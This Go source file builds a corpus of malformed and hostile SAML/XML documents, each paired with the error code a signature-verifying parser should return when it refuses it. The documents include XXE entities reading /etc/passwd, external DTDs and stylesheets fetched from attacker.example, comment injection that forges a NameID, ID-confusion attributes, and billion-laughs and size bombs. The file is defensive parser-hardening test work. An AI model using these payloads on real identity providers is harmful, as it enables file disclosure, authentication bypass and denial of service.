package corpus

import (
	"strings"
	"unicode/utf16"
)

// parser gives documents on which readers disagree, and documents that are only
// there to be expensive.
func (w *Workshop) parser() []Document {
	return append(w.doctypes(), append(w.comments(), append(w.identifiers(), append(w.syntax(), w.bombs()...)...)...)...)
}

func (w *Workshop) doctypes() []Document {
	r := bare(w.signedResponse("rsa", template{}))
	dtd := func(name, doctype string) Document { return refuse("DTD: "+name, doctype+r, "xml_doctype") }
	laughs := `<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>`
	return []Document{
		dtd("benign", `<!DOCTYPE r>`),
		dtd("lower case", `<!doctype r>`),
		dtd("internal entity", `<!DOCTYPE r [<!ENTITY e "evil">]>`),
		dtd("external entity", `<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>`),
		dtd("external subset", `<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd">`),
		dtd("parameter entity", `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x"> %p;]>`),
		dtd("default attribute", `<!DOCTYPE r [<!ATTLIST samlp:Response Destination CDATA "evil">]>`),
		dtd("attribute of type ID", `<!DOCTYPE r [<!ATTLIST saml:Assertion Version ID #IMPLIED>]>`),
		dtd("quote confusion", `<!DOCTYPE r [<!ENTITY e '"'>]>`),
		dtd("billion laughs", laughs),
		dtd("quadratic blowup", `<!DOCTYPE r [<!ENTITY e "`+strings.Repeat("A", 5000)+`">]>`),
		refuse("DTD: inside the root", swap(r, "<samlp:Status>", `<!DOCTYPE x><samlp:Status>`), "xml_doctype"),
		refuse("DTD: entity declaration alone", `<!ENTITY e "x">`+r, "xml_doctype"),
		refuse("unknown entity", swap(r, Genuine, "&evil;"), "xml_entity"),
	}
}

func (w *Workshop) comments() []Document {
	r, a := bare(w.signedResponse("rsa", template{})), bare(w.signedAssertion("rsa", template{}))
	admin := swap(w.unsignedTemplate(), Genuine, "admin<!---->.evil.forged")
	return []Document{
		refuse("comment: cuts NameID", w.SignWith("rsa", admin), "xml_comment"),
		refuse("comment: added to the signed assertion", swap(a, Genuine, "anna<!-- x -->.genuine"), "xml_comment"),
		refuse("comment: in an attribute value element", swap(r, "</saml:AttributeValue>", "<!-- -->.evil</saml:AttributeValue>"), "xml_comment"),
		refuse("comment: in Issuer", swap(r, ">http", ">h<!-- -->ttp"), "xml_comment"),
		refuse("comment: before the root", "<!-- -->"+r, "xml_comment"),
		refuse("comment: behind the root", r+"<!-- -->", "xml_comment"),
		refuse("comment: between elements", swap(r, "<samlp:Status>", "<!-- --><samlp:Status>"), "xml_comment"),
		refuse("instruction: before the root", "<?x y?>"+r, "xml_instruction"),
		refuse("instruction: behind the root", r+"<?x y?>", "xml_instruction"),
		refuse("instruction: stylesheet", `<?xml-stylesheet href="http://attacker.example/x.xsl"?>`+r, "xml_instruction"),
		refuse("instruction: in NameID", swap(r, Genuine, "anna<?x?>.genuine"), "xml_instruction"),
		refuse("declaration: inside", swap(r, "<samlp:Status>", `<?xml version="1.0"?><samlp:Status>`), "xml_instruction"),
	}
}

// identifiers are the Fragile Lock family (PortSwigger, December 2025): what is
// the ID, and what canonicalizes to nothing.
func (w *Workshop) identifiers() []Document {
	r := bare(w.signedResponse("rsa", template{}))
	id := ` ID="` + responseID + `"`
	on := func(name, attributes, code string) Document {
		return refuse("identifier: "+name, swap(r, id, attributes), code)
	}
	return []Document{
		on("xml:id beside ID", id+` xml:id="_x"`, "xml_foreign_id"),
		on("xml:id instead of ID", ` xml:id="`+responseID+`"`, "xml_foreign_id"),
		on("q:ID before ID", ` xmlns:q="urn:q" q:ID="_x"`+id, "xml_foreign_id"),
		on("q:ID behind ID", id+` xmlns:q="urn:q" q:ID="_x"`, "xml_foreign_id"),
		on("samlp:ID", id+` samlp:ID="_x"`, "xml_foreign_id"),
		on("id beside ID", id+` id="_x"`, "xml_duplicate_id"),
		on("Id beside ID", id+` Id="_x"`, "xml_duplicate_id"),
		on("same expanded name by two prefixes", id+` xmlns:p="urn:p" xmlns:q="urn:p" p:a="1" q:a="2"`, "xml_duplicate_attribute"),
		refuse("identifier: same value as Id on the signature", swap(r, "<ds:Signature ", `<ds:Signature Id="`+assertID+`" `), "xml_duplicate_id"),
		refuse("identifier: same value as id on a child", swap(r, "<samlp:Status>", `<samlp:Status id="`+responseID+`">`), "xml_duplicate_id"),
		on("relative namespace URI", id+` xmlns:v="1"`, "xml_namespace"),
		on("relative namespace URI with a slash", id+` xmlns:v="./x"`, "xml_namespace"),
		on("malformed namespace URI", id+` xmlns:v="http://a b"`, "xml_namespace"),
		on("ampersand in a namespace URI", id+` xmlns:v="http://a/?b&amp;c"`, "xml_namespace"),
		on("undeclared prefix by xmlns:p empty", id+` xmlns:v=""`, "xml_namespace"),
		on("xml prefix declared", id+` xmlns:xml="http://www.w3.org/XML/1998/namespace"`, "xml_prefix"),
		on("other prefix for the xml namespace", id+` xmlns:y="http://www.w3.org/XML/1998/namespace"`, "xml_namespace"),
		on("xmlns prefix declared", id+` xmlns:xmlns="urn:x"`, "xml_prefix"),
		on("prefix declared twice", id+` xmlns:v="urn:1" xmlns:v="urn:2"`, "xml_duplicate_attribute"),
	}
}

func (w *Workshop) syntax() []Document { return append(w.outside(), w.inside()...) }

// outside are faults of the document as a whole: what stands around the root,
// which characters it is made of.
func (w *Workshop) outside() []Document {
	r := bare(w.signedResponse("rsa", template{}))
	evil := swap(swap(r, Genuine, Forged), responseID, "_forged-r")
	return []Document{
		refuse("empty", "", "xml_outside_root"),
		refuse("white space only", " \n", "xml_outside_root"),
		refuse("text before the root", "x"+r, "xml_outside_root"),
		refuse("text behind the root", r+"x", "xml_outside_root"),
		refuse("NUL behind the root", r+"\x00", "xml_character"),
		refuse("space as a reference behind the root", r+"&#32;", "xml_outside_root"),
		refuse("CDATA behind the root", r+"<![CDATA[ ]]>", "xml_outside_root"),
		refuse("forged response behind the root", r+"\n"+evil, "xml_outside_root"),
		refuse("forged response before the root", evil+r, "xml_outside_root"),
		refuse("byte order mark", "\uFEFF"+r, "xml_outside_root"),
		refuse("UTF-16, big endian", inUTF16(r, false), "xml_encoding"),
		refuse("UTF-16, little endian", inUTF16(r, true), "xml_encoding"),
		refuse("UTF-7 declared", `<?xml version="1.0" encoding="UTF-7"?>`+r, "xml_encoding"),
		refuse("Latin 1 declared", `<?xml version="1.0" encoding="ISO-8859-1"?>`+r, "xml_encoding"),
		refuse("XML 1.1", `<?xml version="1.1"?>`+r, "xml_declaration"),
		refuse("XML declaration twice", strings.Repeat(`<?xml version="1.0"?>`, 2)+r, "xml_instruction"),
		refuse("XML declaration after a space", ` <?xml version="1.0"?>`+r, "xml_instruction"),
		refuse("XML declaration without version", `<?xml encoding="UTF-8"?>`+r, "xml_declaration"),
		refuse("NUL", swap(r, "anna", "anna\x00"), "xml_character"),
		refuse("control character", swap(r, "anna", "anna\x0B"), "xml_character"),
		refuse("NUL as a reference", swap(r, "anna", "anna&#0;"), "xml_entity"),
		refuse("surrogate as a reference", swap(r, "anna", "anna&#xD800;"), "xml_entity"),
		refuse("non-character", swap(r, "anna", "anna\uFFFE"), "xml_character"),
		refuse("bad UTF-8", swap(r, "anna", "anna\xC3\x28"), "xml_encoding"),
		refuse("overlong UTF-8", swap(r, "anna", "anna\xC0\xBC"), "xml_encoding"),
		refuse("surrogate in UTF-8", swap(r, "anna", "anna\xED\xA0\x80"), "xml_encoding"),
		refuse("cut off", r[:len(r)-5], "xml_syntax"),
		refuse("root never closed", strings.TrimSuffix(r, "</samlp:Response>"), "xml_end_tag"),
		refuse("signed assertion under a response of another namespace", swap(w.signedAssertion("rsa", template{}), protocolSpace, "urn:other"), CodeNotResponse),
	}
}

// inside are faults of the markup, in front of the status of a signed response.
func (w *Workshop) inside() []Document {
	r := bare(w.signedResponse("rsa", template{}))
	in := func(name, piece, code string) Document {
		return refuse(name, swap(r, "<samlp:Status>", piece+"<samlp:Status>"), code)
	}
	return []Document{
		in("XInclude", `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>`, "sig_digest"),
		in("two colons", `<samlp::x/>`, "xml_name"),
		in("colon first", `<:x/>`, "xml_name"),
		in("colon last", `<samlp:/>`, "xml_name"),
		in("attribute with a leading colon", `<x :ID="_x"/>`, "xml_name"),
		in("undeclared prefix", `<nobody:x/>`, "xml_prefix"),
		in("undeclared prefix of an attribute", `<x nobody:y=""/>`, "xml_prefix"),
		in("element with the xmlns prefix", `<xmlns:x/>`, "xml_prefix"),
		in("less-than sign in an attribute", `<x y="<"/>`, "xml_syntax"),
		in("attribute without quotes", `<x y=z/>`, "xml_syntax"),
		in("attribute without value", `<x y/>`, "xml_syntax"),
		in("attributes without white space", `<x y=""z=""/>`, "xml_syntax"),
		in("end of CDATA in text", `]]>`, "xml_syntax"),
		in("CDATA without end", `<![CDATA[`, "xml_syntax"),
		in("end tag of another prefix", `<p:x xmlns:p="urn:p" xmlns:q="urn:p"></q:x>`, "xml_end_tag"),
		in("end tag alone", `</x>`, "xml_end_tag"),
		in("ampersand alone", `&`, "xml_entity"),
	}
}

// inUTF16 encodes a document with a byte order mark.
func inUTF16(s string, littleEndian bool) string {
	var b strings.Builder
	for _, u := range utf16.Encode([]rune("\uFEFF" + s)) {
		if littleEndian {
			u = u<<8 | u>>8
		}
		b.WriteByte(byte(u >> 8))
		b.WriteByte(byte(u))
	}
	return b.String()
}

// bombs must be refused before they cost anything.
func (w *Workshop) bombs() []Document {
	r := bare(w.signedResponse("rsa", template{}))
	in := func(name, piece, code string) Document {
		return refuse("bomb: "+name, swap(r, "<samlp:Status>", piece+"<samlp:Status>"), code)
	}
	var attributes, prefixes strings.Builder
	for i := range 20_000 {
		attributes.WriteString(" a" + string(rune('a'+i%26)) + strings.Repeat("x", i/26%8) + `=""`)
	}
	for i := range 200 {
		prefixes.WriteString(" xmlns:p" + strings.Repeat("x", i) + `="urn:x"`)
	}
	long := "http://" + strings.Repeat("a", 100_000)
	many := `<n xmlns:p="` + long + `">` + strings.Repeat("<p:a/>", 4000) + "</n>"
	return []Document{
		in("20 000 levels", strings.Repeat("<a>", 20_000)+strings.Repeat("</a>", 20_000), "xml_depth"),
		in("20 000 levels never closed", strings.Repeat("<a>", 20_000), "xml_depth"),
		in("20 000 attributes", "<a"+attributes.String()+"/>", "xml_attributes"),
		in("200 declarations", "<a"+prefixes.String()+"/>", "xml_attributes"),
		in("50 000 elements", strings.Repeat("<a/>", 50_000), "xml_nodes"),
		in("4 MB of text", strings.Repeat("A", 4<<20), "xml_too_large"),
		in("4 MB of spaces in a tag", "<a"+strings.Repeat(" ", 4<<20)+"/>", "xml_too_large"),
		in("long namespace repeated by canonicalization", many, "xml_too_large"),
		in("reference with a million digits", "&#"+strings.Repeat("0", 200_000)+"38;", "xml_entity"),
	}
}
